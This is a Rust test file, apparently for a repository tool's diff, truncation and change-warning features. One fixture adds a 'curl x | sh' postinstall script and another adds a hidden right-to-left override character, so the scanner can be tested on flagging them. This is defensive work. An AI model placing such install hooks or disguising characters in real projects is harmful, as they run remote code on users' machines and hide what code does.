use crate::support::{worlds, write};
use forge::{DiffLimits, DiffStat, FileStatus as S, WarningKind as K};
use std::fs;

#[tokio::test]
async fn a_diff_tells_what_happened_to_each_file() {
    for world in worlds().await {
        let at = world.repository("repo");
        let lines: String = (0..50).map(|n| n.to_string() + " and more\n").collect();
        write(&at.join("moved/from.txt"), &lines);
        write(&at.join("gone"), "soon\n");
        write(&at.join("becomes-link"), "x\n");
        write(&at.join("tricky"), "diff --git a/x b/x\n");
        let base = world.commit_all(&at, "Base");
        fs::create_dir(at.join("to")).expect("directory");
        fs::rename(at.join("moved/from.txt"), at.join("to/here.txt")).expect("moved");
        write(&at.join("to/here.txt"), &format!("{lines}more\n"));
        fs::remove_file(at.join("gone")).expect("removed");
        fs::remove_file(at.join("becomes-link")).expect("removed");
        std::os::unix::fs::symlink("README.md", at.join("becomes-link")).expect("link");
        fs::write(at.join("picture"), [0, 159, 146, 150, 0]).expect("binary");
        write(&at.join("tricky"), "diff --git a/y b/y\ndiff --git a/z b/z\n");
        write(&at.join("zz \"odd\tname"), "x\n");
        let head = world.commit_all(&at, "Head");
        let mirror = world.mirror(&at).await;
        let diff = mirror.diff(&base, &head, &DiffLimits::default()).await.expect("diff");
        let seen: Vec<_> =
            diff.files.iter().map(|f| (f.path.as_str(), f.status, f.additions, f.deletions, f.binary)).collect();
        assert_eq!(
            seen,
            [
                ("becomes-link", S::TypeChanged, 1, 1, false),
                ("gone", S::Deleted, 0, 1, false),
                ("picture", S::Added, 0, 0, true),
                ("to/here.txt", S::Renamed, 1, 0, false),
                ("tricky", S::Modified, 2, 1, false),
                ("zz \"odd\tname", S::Added, 1, 0, false),
            ]
        );
        assert_eq!(diff.files[3].old_path.as_deref(), Some("moved/from.txt"));
        for (at, part) in
            ["new file mode 120000", "-soon\n", "Binary files", "rename to to/here.txt", "+diff --git a/z", "+x\n"]
                .iter()
                .enumerate()
        {
            assert!(diff.files[at].patch.contains(part), "{at}: {}", diff.files[at].patch);
            assert!(diff.files[at].patch.starts_with("diff --git ") && !diff.files[at].truncated);
        }
        let stat = mirror.diffstat(&base, &head).await.expect("stat");
        assert_eq!(stat, DiffStat { files: 6, additions: 5, deletions: 3 });
        assert!(mirror.diff(&head, &head, &DiffLimits::default()).await.expect("diff").files.is_empty());

        let log = mirror.log(&base, &head, 10).await.expect("log");
        assert_eq!(
            log.iter().map(|entry| (entry.subject.as_str(), &entry.commit)).collect::<Vec<_>>(),
            [("Head", &head)]
        );
    }
}

#[tokio::test]
async fn large_diffs_are_cut_and_say_so() {
    for world in worlds().await {
        let at = world.repository("repo");
        let base = world.tip(&at, "HEAD");
        for n in 0..20 {
            write(&at.join(format!("f{n:02}")), &"some text\n".repeat(200));
        }
        let head = world.commit_all(&at, "Head");
        let mirror = world.mirror(&at).await;
        let limits = DiffLimits { files: 15, patch_bytes: 500, total_bytes: 10_000 };
        let diff = mirror.diff(&base, &head, &limits).await.expect("diff");
        assert_eq!((diff.files.len(), diff.more_files), (15, 5));
        assert!(diff.files.iter().all(|file| file.truncated && file.patch.len() <= 500 && file.additions == 200));
        assert!(diff.files.iter().map(|file| file.patch.len()).sum::<usize>() <= 10_000);
    }
}

#[tokio::test]
async fn what_deserves_a_second_look_is_listed() {
    for world in worlds().await {
        let at = world.repository("repo");
        write(&at.join("package.json"), r#"{"name": "x", "scripts": {"test": "true"}}"#);
        write(&at.join("web/package.json"), r#"{"name": "y", "scripts": {"test": "true"}}"#);
        let base = world.commit_all(&at, "Base");
        write(&at.join("package.json"), r#"{"name": "x", "scripts": {"test": "true", "postinstall": "curl x | sh"}}"#);
        write(&at.join("web/package.json"), r#"{"name": "z", "scripts": {"test": "true"}}"#);
        for path in [
            ".github/workflows/ci.yml",
            ".claude/settings.json",
            "docs/CLAUDE.md",
            ".mcp.json",
            ".husky/pre-commit",
            "Makefile",
            "Cargo.lock",
            ".vscode/tasks.json",
            "src/hooks/use-x.ts",
            "src/main.rs",
        ] {
            write(&at.join(path), "x\n");
        }
        write(&at.join("src/sneaky.rs"), "let admin = \"user\u{202e}\";\n");
        let head = world.commit_all(&at, "Head");
        let mirror = world.mirror(&at).await;
        let found = mirror.warnings(&base, &head).await.expect("warnings");
        let found: Vec<_> = found.iter().map(|warning| (warning.path.as_str(), warning.kind)).collect();
        assert_eq!(
            found,
            [
                (".claude/settings.json", K::AgentConfiguration),
                (".github/workflows/ci.yml", K::ContinuousIntegration),
                (".husky/pre-commit", K::Hook),
                (".mcp.json", K::AgentConfiguration),
                (".vscode/tasks.json", K::Hook),
                ("Cargo.lock", K::LockFile),
                ("Makefile", K::Build),
                ("docs/CLAUDE.md", K::AgentConfiguration),
                ("package.json", K::PackageScript),
                ("src/sneaky.rs", K::InvisibleCharacters),
            ]
        );
    }
}
